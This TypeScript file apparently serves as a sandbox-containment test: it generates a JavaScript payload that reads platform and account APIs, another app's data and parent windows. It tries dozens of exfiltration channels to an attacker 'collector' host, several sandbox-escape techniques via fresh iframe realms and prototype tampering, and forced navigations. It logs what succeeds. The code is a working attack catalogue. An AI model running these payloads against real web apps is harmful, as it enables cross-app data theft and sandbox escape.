/** What the hostile code tries to reach. */
export interface Targets {
  /** A server of the attacker's: whatever arrives there has been carried out of the app. */
  readonly collector: string;
  /** An address to which a connection alone carries something out: the name of its host. */
  readonly bare: string;
  /** `host:port` of the attacker's STUN server. */
  readonly stun: string;
  readonly platform: string;
  /** Another app on the same instance, with its origin and a row that anyone may read there. */
  readonly otherApp: { readonly appId: string; readonly origin: string };
  /** The entity, with a field `text`, in which the app that runs the code stores what it got at. */
  readonly report: string;
}

/**
 * Code that tries everything to get at what is not its own, or to carry data out. It writes what it could get at into
 * `window.loot` and into a row of its
 * app; what it could carry out, the collector knows.
 */
export function hostileCode({ collector, bare, stun, platform, otherApp, report }: Targets): string {
  return `
const loot = {};
const steal = async (name, attempt) => {
  try {
    const value = await attempt();
    if (value !== undefined && value !== null && value !== '') loot[name] = String(value).slice(0, 200);
  } catch {}
};
const out = (way) => '${collector}/' + way + '?data=secret';
const element = (tag, attributes, parent = document.body) => {
  const made = Object.assign(document.createElement(tag), attributes);
  parent.append(made);
  return made;
};

export const thefts = Promise.all([
  steal('parent document', () => (parent === window ? '' : parent.document.title)),
  steal('top storage', () => (top === window ? '' : top.localStorage.length)),
  steal('top address', () => (top === window ? '' : top.location.href)),
  steal('platform page', () => fetch('${platform}/', { credentials: 'include' }).then((r) => r.text())),
  steal('platform api', () => fetch('${platform}/api/apps', { credentials: 'include' }).then((r) => r.text())),
  steal('builder api here', () => fetch('/api/apps').then((r) => (r.ok ? r.text() : ''))),
  steal('account here', () => fetch('/api/account/current').then((r) => (r.ok ? r.text() : ''))),
  steal('other app here', () => fetch('/api/apps/${otherApp.appId}/entities/Note').then((r) => (r.ok ? r.text() : ''))),
  steal('other app there', () => fetch('${otherApp.origin}/api/apps/${otherApp.appId}/entities/Note').then((r) => r.text())),
  steal('opened platform', () => window.open('${platform}/', 'stolen')?.location.href),
]);

const ways = {
  fetch: () => fetch(out('fetch'), { mode: 'no-cors' }).catch(() => {}),
  post: () => fetch(out('post'), { method: 'POST', body: 'secret', mode: 'no-cors', keepalive: true }).catch(() => {}),
  xhr: () => { const request = new XMLHttpRequest(); request.open('GET', out('xhr')); request.send(); },
  beacon: () => navigator.sendBeacon(out('beacon'), 'secret'),
  socket: () => new WebSocket(out('socket').replace('http', 'ws')),
  events: () => new EventSource(out('events')),
  image: () => { new Image().src = out('image'); },
  background: () => { document.body.style.backgroundImage = 'url(' + out('background') + ')'; },
  styleElement: () => element('style', { textContent: '@import "' + out('styleElement') + '"; @font-face { font-family: x; src: url(' + out('font') + '); } body { font-family: x; }' }),
  stylesheet: () => element('link', { rel: 'stylesheet', href: out('stylesheet') }),
  prefetch: () => element('link', { rel: 'prefetch', href: out('prefetch') }),
  preload: () => element('link', { rel: 'preload', as: 'image', href: out('preload') }),
  modulepreload: () => element('link', { rel: 'modulepreload', href: out('modulepreload') }),
  icon: () => element('link', { rel: 'icon', href: out('icon') }),
  manifest: () => element('link', { rel: 'manifest', href: out('manifest') }),
  script: () => element('script', { src: out('script') }),
  inline: () => element('script', { textContent: 'fetch("' + out('inline') + '", { mode: "no-cors" })' }),
  imported: () => element('script', { type: 'module', src: URL.createObjectURL(new Blob(['import "' + out('imported') + '"'], { type: 'text/javascript' })) }),
  evaluated: () => (0, eval)('new Image().src = "' + out('evaluated') + '"'),
  worker: () => new Worker(URL.createObjectURL(new Blob(['fetch("' + out('worker') + '", { mode: "no-cors" })']))),
  video: () => element('video', { src: out('video') }),
  frame: () => element('iframe', { src: out('frame') }),
  frameMarkup: () => document.body.insertAdjacentHTML('beforeend', '<iframe src="' + out('frameMarkup') + '"></iframe><object data="' + out('object') + '"></object><embed src="' + out('embed') + '">'),
  popup: () => window.open(out('popup')),
  ping: () => element('a', { href: '#', ping: out('ping') }).click(),
  topWindow: () => { if (top !== window) top.location.href = out('topWindow'); },
  rtc: () => call(window),
  later: () => fetchLater(out('later'), { activateAfter: 0 }),
  transport: () => new WebTransport(out('transport').replace('http:', 'https:')),
  font: () => void new FontFace('y', 'url(' + out('fontFace') + ')').load().catch(() => {}),
  cursor: () => { document.body.style.cursor = 'url(' + out('cursor') + '), auto'; },
  mask: () => { document.body.style.maskImage = 'url(' + out('mask') + ')'; },
  filter: () => { document.body.style.filter = 'url(' + out('filter') + '#x)'; },
  adopted: () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync('html { background: url(' + out('adopted') + ') }');
    document.adoptedStyleSheets = [sheet];
  },
  srcset: () => { new Image().srcset = out('srcset') + ' 1x'; },
  poster: () => element('video', { poster: out('poster') }),
  svg: () => document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + out('svgImage') + '"/><use href="' + out('svgUse') + '#x"/><feImage href="' + out('feImage') + '"/></svg>'),
  sharedWorker: () => new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + out('sharedWorker') + '", { mode: "no-cors" })']))),
  scriptOfWorker: () => new Worker(URL.createObjectURL(new Blob(['importScripts("' + out('importScripts') + '")']))),
  preconnect: () => element('link', { rel: 'preconnect', href: '${bare}' }, document.head),
  prerender: () => element('link', { rel: 'prerender', href: out('prerender') }, document.head),
  dictionary: () => element('link', { rel: 'compression-dictionary', href: out('dictionary') }, document.head),
  linkMarkup: () => document.head.insertAdjacentHTML('beforeend', '<link rel="prefetch" href="' + out('linkMarkup') + '"><link rel="preconnect" href="${bare}">'),
  linkOfPage: () => { for (const link of document.querySelectorAll('link')) { link.rel = 'preconnect'; link.href = '${bare}'; document.head.append(link.cloneNode()); } },
  linkCleaned: () => document.head.setHTML('<link rel="preconnect" href="${bare}">', { sanitizer: {} }),
  rules: () => element('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [out('rules')], eagerness: 'immediate' }] }) }),
  artwork: () => { navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: out('artwork'), sizes: '96x96', type: 'image/png' }] }); },
  identity: () => void navigator.credentials.get({ identity: { providers: [{ configURL: out('identity'), clientId: 'x' }] } }).catch(() => {}),
  attribution: () => element('img', { attributionSrc: out('attribution') }),
  ownWorker: () => new Worker(ownScript()),
  ownService: () => void navigator.serviceWorker.register(ownScript()).catch(() => {}),
  ownPage: () => element('iframe', { src: URL.createObjectURL(new Blob(['<script src="' + ownScript() + '"></' + 'script><img src="' + out('ownPage') + '">'], { type: 'text/html' })) }),
};

/** Ways to another window, in which everything is there again that was taken away from this one. */
const iframe = '<iframe></iframe>';
const xhtml = 'http://www.w3.org/1999/xhtml';
const parsed = (markup, type) => document.adoptNode(new DOMParser().parseFromString(markup, type).querySelector('iframe'));
const holder = () => element('div', {});
const realms = {
  byName: () => holder().append(document.createElement('IFRAME')),
  byObject: () => holder().append({ toString: () => 'iframe' } && document.createElement({ toString: () => 'iframe' })),
  byNamespace: () => holder().append(document.createElementNS(xhtml, 'x:iframe')),
  byFrame: () => holder().append(document.createElementNS(xhtml, 'frame')),
  byMarkup: () => { holder().innerHTML = iframe; },
  byOuterMarkup: () => { holder().outerHTML = '<div><IFRAME/ x></div>'; },
  byTemplate: () => { const t = document.createElement('template'); t.innerHTML = iframe; holder().append(document.importNode(t.content, true)); },
  byRange: () => holder().append(document.createRange().createContextualFragment(iframe)),
  byParser: () => holder().append(parsed(iframe, 'text/html')),
  byXml: () => holder().append(parsed('<a:iframe xmlns:a="' + xhtml + '"/>', 'text/xml')),
  byEntity: () => holder().append(parsed('<!DOCTYPE x [<!ENTITY f "&#60;iframe xmlns=\\'' + xhtml + '\\'/>">]><x>&f;</x>', 'text/xml')),
  byDocument: () => holder().append(document.adoptNode(document.implementation.createDocument(xhtml, 'iframe').documentElement)),
  byUnsafeMarkup: () => { const held = holder(); held.setHTMLUnsafe('<p><template shadowrootmode="open">' + iframe + '</template></p>'); return held.firstChild.shadowRoot.querySelector('iframe').contentWindow; },
  byUnsafeDocument: () => holder().append(document.adoptNode(Document.parseHTMLUnsafe(iframe).querySelector('iframe'))),
  byShadow: () => { const root = holder().attachShadow({ mode: 'closed' }); root.innerHTML = iframe; return root.querySelector('iframe').contentWindow; },
  byCopy: () => {
    const host = document.createElement('div');
    host.attachShadow({ mode: 'open', clonable: true }).innerHTML = iframe;
    const copy = host.cloneNode(true);
    document.body.append(copy);
    return copy.shadowRoot.querySelector('iframe').contentWindow;
  },
  byExtending: () => {
    class Frame extends HTMLIFrameElement {}
    customElements.define('x-frame', Frame, { extends: 'iframe' });
    holder().append(new Frame());
  },
  byRequest: () => {
    const request = new XMLHttpRequest();
    request.open('GET', '${report}', false);
    request.overrideMimeType('text/html');
    request.send();
    const asked = new XMLHttpRequest();
    asked.open('GET', 'data:text/html,' + iframe);
    asked.responseType = 'document';
    asked.onload = () => { holder().append(document.adoptNode(asked.response.querySelector('iframe'))); found('byRequest'); };
    asked.send();
  },
  byTwoFacedType: () => {
    const request = new XMLHttpRequest();
    request.open('GET', 'data:text/html,' + iframe);
    let asked = 0;
    request.responseType = { toString: () => (asked++ ? 'document' : 'text') };
    request.onload = () => {
      if (!request.response.querySelector) return;
      const root = holder().attachShadow({ mode: 'open' });
      root.append(document.adoptNode(request.response.querySelector('iframe')));
      found('byTwoFacedType', root.firstChild.contentWindow);
    };
    request.send();
  },
  byStyleSheet: () => {
    const sheet = new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:element name="{concat(\\'ifr\\', \\'ame\\')}" namespace="' + xhtml + '"/></xsl:template></xsl:stylesheet>', 'text/xml');
    const processor = new XSLTProcessor();
    processor.importStylesheet(sheet);
    holder().append(processor.transformToFragment(sheet, document));
  },
  byCommand: () => {
    const editable = element('div', { contentEditable: 'true', textContent: 'x' });
    editable.focus();
    document.execCommand('insertHTML', false, iframe);
  },
  byUse: () => document.body.insertAdjacentHTML('beforeend', '<svg><use href="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 id=%22a%22%3E%3CforeignObject%3E%3Ciframe xmlns=%22http://www.w3.org/1999/xhtml%22/%3E%3C/foreignObject%3E%3C/svg%3E#a"/></svg>'),
  byEmbed: () => holder().append(document.createElement('object'), document.createElement('embed')),
  byWriting: () => document.write(iframe),
  byTampering: () => {
    const { exec, flags } = Object.getOwnPropertyDescriptors(RegExp.prototype);
    const { replace } = String.prototype;
    RegExp.prototype.exec = () => null;
    RegExp.prototype[Symbol.replace] = (markup) => markup;
    String.prototype.replace = function () { return this; };
    Object.defineProperty(RegExp.prototype, 'flags', { configurable: true, get: () => '' });
    Object.defineProperty(Element.prototype, 'localName', { configurable: true, get: () => 'div' });
    Object.prototype.iframe = undefined;
    try { holder().innerHTML = iframe; holder().append(document.createElement('iframe')); }
    finally {
      Object.defineProperties(RegExp.prototype, { exec, flags });
      String.prototype.replace = replace;
      delete Object.prototype.iframe;
    }
  },
  byOpening: () => { loot.opened = window.open('about:blank', 'x')?.RTCPeerConnection ?? ''; if (!loot.opened) delete loot.opened; },
};
/** Says that there was another window, and leaves none to the next way. */
function found(name, other = window[0]) {
  if (other) loot['realm ' + name] = 'a window';
  for (const page of document.querySelectorAll('iframe, frame, object, embed')) page.remove();
}

/** Ways to take the page itself elsewhere. */
const departures = {
  href: () => { location.href = out('href'); },
  replaced: () => location.replace(out('replaced')),
  refresh: () => document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=' + out('refresh') + '">'),
  form: () => element('form', { action: out('form'), method: 'POST' }).submit(),
  link: () => element('a', { href: out('link') }).click(),
  looseLink: () => Object.assign(document.createElement('a'), { href: out('looseLink') }).click(),
  changedLink: () => {
    const link = element('a', { href: '#x' });
    link.addEventListener('click', (event) => { event.stopImmediatePropagation(); link.href = out('changedLink'); });
    link.click();
  },
  area: () => element('area', { href: out('area') }).click(),
  drawnLink: () => { const link = document.createElementNS('http://www.w3.org/2000/svg', 'a'); link.setAttributeNS('http://www.w3.org/1999/xlink', 'href', out('drawnLink')); document.body.append(link); link.dispatchEvent(new MouseEvent('click', { bubbles: true })); },
  navigated: () => void navigation.navigate(out('navigated')).finished.catch(() => {}),
  ownWindow: () => window.open(out('ownWindow'), '_self'),
  script: () => { location.href = 'javascript:fetch("' + out('javascript') + '")'; },
  blob: () => { location.href = URL.createObjectURL(new Blob(['<img src="' + out('blobPage') + '"><script src="' + ownScript() + '"></' + 'script>'], { type: 'text/html' })); },
  cookie: () => { document.cookie = 'big=' + 'x'.repeat(4000) + '; path=/; domain=' + location.hostname.split('.').slice(1).join('.'); if (document.cookie) loot.cookie = 'set'; },
  cookieStore: () => void cookieStore.set('big', 'x').then(() => { loot.cookieStore = 'set'; }, () => {}),
};
const ownScript = () => location.origin + (document.querySelector('script[src]')?.getAttribute('src') ?? '/page.js');

/** Holds the thread, so that nothing comes between the call and the network. */
function call(realm) {
  const connection = new realm.RTCPeerConnection({ iceServers: [{ urls: 'stun:${stun}' }] });
  connection.createDataChannel('x');
  connection.setLocalDescription();
  for (const start = Date.now(); Date.now() - start < 300; );
}

const pause = (time) => new Promise((resolve) => setTimeout(resolve, time));

export const tried = thefts.then(async () => {
  for (const way of Object.values(ways)) {
    try { void way(); } catch {}
  }
  for (const [name, way] of Object.entries(realms)) {
    let other;
    try { other = way(); } catch {}
    found(name, other?.document ? other : undefined);
  }
  window.loot = loot;
  if (!location.pathname.startsWith('/page')) {
    for (const depart of Object.values(departures)) {
      try { depart(); } catch {}
      await pause(50);
    }
    await pause(1000);
  }
  window.loot = loot;
  if (window.reportLoot) return window.reportLoot({ text: JSON.stringify(loot) });
  await fetch('${report}', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ text: JSON.stringify(loot) }) });
});
`;
}
